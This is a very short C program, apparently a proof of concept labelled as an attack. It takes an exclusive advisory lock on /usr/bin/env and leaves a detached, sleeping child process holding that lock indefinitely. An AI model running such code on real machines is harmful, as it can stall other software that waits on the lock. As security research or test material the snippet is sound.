#include "attack.h"

int main(void) {
  int fd = open("/usr/bin/env", O_RDONLY);
  printf("lock %d\n", (int)syscall(SYS_flock, fd, 2));
  if (fork() == 0) { setsid(); pause(); }
}
